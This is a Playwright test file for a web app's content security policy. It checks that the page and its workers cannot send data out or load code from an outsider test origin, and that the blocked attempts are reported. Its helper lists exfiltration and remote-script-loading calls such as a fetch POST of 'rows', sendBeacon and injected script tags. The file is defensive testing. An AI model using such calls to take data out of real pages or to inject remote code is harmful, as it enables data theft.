import { expect, test } from "./support/studio-test.ts";

test.use({ probesPolicy: true });

/** Every way out that a script has. What the calls return is no proof (sendBeacon says true): arrivals are. */
const breakOut = async (origin: string) => {
  const tries: (() => unknown)[] = [
    () => fetch(`${origin}/fetch`, { method: "POST", body: "rows", mode: "no-cors" }),
    () => import(/* @vite-ignore */ `${origin}/module.js`),
    () => new WebSocket(origin.replace("http", "ws")),
    () => new EventSource(`${origin}/events`),
    () => navigator.sendBeacon?.(`${origin}/beacon`, "rows"),
    () => (globalThis as { importScripts?: (url: string) => void }).importScripts?.(`${origin}/script.js`),
    () => Object.assign(new Image(), { src: `${origin}/image` }),
    () => document.head.append(Object.assign(document.createElement("script"), { src: `${origin}/tag.js` })),
    () => new Function("return 1")(),
  ];
  const outcomes: string[] = [];
  for (const attempt of tries)
    outcomes.push(
      await Promise.resolve()
        .then(attempt)
        .then(String, (error: Error) => error.name),
    );
  return outcomes;
};

test("nothing gets out of the page or of any worker, and the tries are reported", async ({
  page,
  studio,
  outsider,
}) => {
  await page.goto("./");
  await expect(page.getByRole("button").first()).toBeEnabled();
  const before = studio.reports.hits.length;
  await page.evaluate(breakOut, outsider.origin);
  for (const worker of page.workers()) await worker.evaluate(breakOut, outsider.origin);

  await expect.poll(() => studio.reports.hits.length - before).toBeGreaterThan(page.workers().length + 1);
});

test("the page has no way to open a peer connection, which no policy would stop", async ({ page }) => {
  await page.goto("./");
  const constructors = await page.evaluate(() =>
    ["RTCPeerConnection", "webkitRTCPeerConnection", "RTCDataChannel"].filter((name) => name in globalThis),
  );
  expect(constructors).toEqual([]);
});
